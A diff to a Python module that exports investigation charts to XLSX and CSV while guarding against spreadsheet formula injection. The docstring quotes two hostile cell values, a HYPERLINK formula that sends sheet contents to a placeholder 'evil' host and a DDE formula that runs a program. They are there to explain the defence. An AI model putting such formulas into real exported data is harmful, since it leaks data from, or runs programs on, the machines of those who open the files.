@@ -1,35 +1,32 @@
 """Entities and links as spreadsheets (XLSX and CSV) for banks, police and campaign teams.
 
 Every label came from somewhere untrusted (a scraped advert, a hotline note), and a spreadsheet
-program evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula: a label such
-as ``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet, ``=cmd|'/c calc'!A1`` would run a
-program. So every *text* cell starting with one of those characters (or a tab or carriage
-return, which some programs strip before evaluating) is written with a leading apostrophe, the
-OWASP "CSV injection" remedy, and XLSX text cells are always typed as strings. Numbers, dates and
-flags are written as real typed values, so a negative amount stays a number.
+program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula: a label such as
+``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet, ``=cmd|'/c calc'!A1`` would run a
+program. CSV has no types, so its text fields follow workbench.io.cells (an apostrophe before
+any piece that could start a formula, in any locale's way of splitting cells). XLSX has types:
+text cells are written as strings (inline strings, which no spreadsheet program evaluates, and
+formatted as Text so that editing one does not turn it into a formula), exactly as they are,
+so a phone number ``+447700900123`` still matches. Numbers, dates and flags are written as
+real typed values, so a negative amount stays a number.
 """
 
 from __future__ import annotations
 
-import csv
 import os
 from collections.abc import Iterable, Mapping
 from dataclasses import dataclass
-from datetime import datetime
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
-from workbench.io.interchange.common import atomic_path, xml_safe
+from workbench.export.xlsx_save import save_workbook
+from workbench.io.atomic import atomic_path
+from workbench.io.cells import FORMULA_STARTS, csv_line, neutralise
+from workbench.io.interchange.common import xml_safe
 from workbench.model import Chart, Entity, Kind, Link, Value
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
 Measures = Mapping[str, Mapping[str, float]]  # measure name -> {entity id: value}
-
-
-def neutralise(text: str) -> str:
-    """Text that no spreadsheet program will run as a formula (a leading apostrophe)."""
-    return "'" + text if text.startswith(FORMULA_STARTS) else text
 
 
 @dataclass(frozen=True, slots=True)
@@ -148,16 +145,46 @@ def _width(value: Any) -> int:
 EXCEL_CELL_LIMIT = 32_767  # characters; Excel calls a file with longer cells damaged
 
 
-def _xlsx_value(value: Any) -> Any:
+DATE_FORMAT = "yyyy-mm-dd hh:mm"
+UTC_DATE_FORMAT = 'yyyy-mm-dd hh:mm "UTC"'
+
+
+def _xlsx_text(value: str) -> str:
+    """XLSX is XML: control characters become a visible '�'; a cell longer than Excel
+    holds is cut, visibly."""
+    text = xml_safe(value)
+    if len(text) > EXCEL_CELL_LIMIT:  # a hub with thousands of sources
+        keep = EXCEL_CELL_LIMIT - 120  # room for the note
+        text = (text[:keep] + f" … [cut: {len(text) - keep:,} more characters; Excel "
+                "holds 32,767 per cell; the CSV export has all]")
+    return text
+
+
+def _xlsx_cell(sheet: Any, value: Any) -> Any:
+    """What to append for one value: text as a string cell (a formula-like one also formatted
+    as Text), a date as a date cell, anything else as it is.
+
+    Excel cannot hold a time zone: a date with one is written in UTC and its format says so
+    (``2024-03-01 08:00 UTC``), so dates from sources in different zones sort and compare
+    right and nobody mistakes them for local time."""
+    from openpyxl.cell import WriteOnlyCell
+
     if isinstance(value, str):
-        # After neutralising no text starts with '=', which is the only thing openpyxl writes
-        # as a formula; XLSX is XML, so control characters become a visible '�'.
-        text = xml_safe(neutralise(value))
-        if len(text) > EXCEL_CELL_LIMIT:  # a hub with thousands of sources: cut, visibly
-            keep = EXCEL_CELL_LIMIT - 120  # room for the note
-            text = (text[:keep] + f" … [cut: {len(text) - keep:,} more characters; Excel "
-                    "holds 32,767 per cell; the CSV export has all]")
-        return text
+        text = _xlsx_text(value)
+        if not text.lstrip(" ").startswith(FORMULA_STARTS):
+            return text  # openpyxl writes it as a string as it is
+        cell = WriteOnlyCell(sheet, value=text)
+        cell.data_type = "s"  # openpyxl would make '=...' a formula
+        cell.number_format = "@"
+        return cell
+    if isinstance(value, datetime):  # a date cell shown as a date, not a serial number
+        number_format = DATE_FORMAT
+        if value.tzinfo is not None and value.utcoffset() is not None:
+            value = value.astimezone(UTC).replace(tzinfo=None)
+            number_format = UTC_DATE_FORMAT
+        cell = WriteOnlyCell(sheet, value=value.replace(tzinfo=None))
+        cell.number_format = number_format
+        return cell
     return value
 
 
@@ -190,37 +217,30 @@ def _fill_sheet(workbook: Any, table: Table, marking: str = "", title: str = "")
     header_fill = PatternFill("solid", fgColor="1F3A5F")
     header = []
     for text in table.headers:
-        cell = WriteOnlyCell(sheet, value=_xlsx_value(text))
+        cell = WriteOnlyCell(sheet, value=_xlsx_text(text))
+        cell.data_type = "s"
         cell.font, cell.fill = header_font, header_fill
         cell.alignment = Alignment(vertical="center")
         header.append(cell)
     sheet.append(header)
-    def typed(value: Any) -> Any:
-        if isinstance(value, datetime):  # a date cell shown as a date, not a serial number
-            cell = WriteOnlyCell(sheet, value=value)
-            cell.number_format = "yyyy-mm-dd hh:mm"
-            return cell
-        return _xlsx_value(value)
-
     for row in table.rows:
-        sheet.append([typed(v) for v in row])
+        sheet.append([_xlsx_cell(sheet, v) for v in row])
 
 
 def write_xlsx(chart: Chart, path: str | os.PathLike[str], *,
                entity_ids: Iterable[str] | None = None, link_ids: Iterable[str] | None = None,
                measures: Measures | None = None) -> None:
     """One workbook, a sheet each for entities and links (bold frozen header, filters)."""
-    from openpyxl import Workbook
+    def fill(workbook: Any) -> None:
+        for table in tables(chart, entity_ids, link_ids, measures):
+            _fill_sheet(workbook, table, chart.marking, chart.title)
+        workbook.properties.title = xml_safe(chart.title)
+        workbook.properties.creator = xml_safe(chart.author) or "Workbench"
+        if chart.marking:
+            workbook.properties.keywords = xml_safe(chart.marking)
 
-    workbook = Workbook(write_only=True)
-    for table in tables(chart, entity_ids, link_ids, measures):
-        _fill_sheet(workbook, table, chart.marking, chart.title)
-    workbook.properties.title = chart.title
-    workbook.properties.creator = chart.author or "Workbench"
-    if chart.marking:
-        workbook.properties.keywords = chart.marking
     with atomic_path(path) as tmp:
-        workbook.save(tmp)
+        save_workbook(fill, tmp)
 
 
 # ----- CSV -------------------------------------------------------------------------------------
@@ -241,10 +261,13 @@ def _csv_text(value: Any) -> str:
 def write_table_csv(table: Table, path: str | os.PathLike[str]) -> None:
     """UTF-8 with a byte-order mark, so Excel on Windows shows accents and Cyrillic right."""
     with atomic_path(path) as tmp, open(tmp, "w", encoding="utf-8-sig", newline="") as handle:
-        writer = csv.writer(handle, lineterminator="\r\n")
-        writer.writerow([neutralise(h) for h in table.headers])
-        for row in table.rows:
-            writer.writerow([_csv_text(v) for v in row])
+        _write_table(table, handle)
+
+
+def _write_table(table: Table, handle: Any) -> None:
+    handle.write(csv_line(neutralise(h) for h in table.headers))
+    for row in table.rows:
+        handle.write(csv_line(_csv_text(v) for v in row))
 
 
 def csv_paths(path: str | os.PathLike[str]) -> tuple[Path, Path]:
@@ -260,6 +283,10 @@ def write_csv(chart: Chart, path: str | os.PathLike[str], *,
     """Two CSV files beside ``path`` (see csv_paths); returns their paths."""
     entities_path, links_path = csv_paths(path)
     entity_tab, link_tab = tables(chart, entity_ids, link_ids, measures)
-    write_table_csv(entity_tab, entities_path)
-    write_table_csv(link_tab, links_path)
+    # Both or neither: a failed links file does not leave a new entities file beside an old
+    # links file.
+    with atomic_path(entities_path) as entities_tmp, atomic_path(links_path) as links_tmp:
+        for table, tmp in ((entity_tab, entities_tmp), (link_tab, links_tmp)):
+            with open(tmp, "w", encoding="utf-8-sig", newline="") as handle:
+                _write_table(table, handle)
     return entities_path, links_path
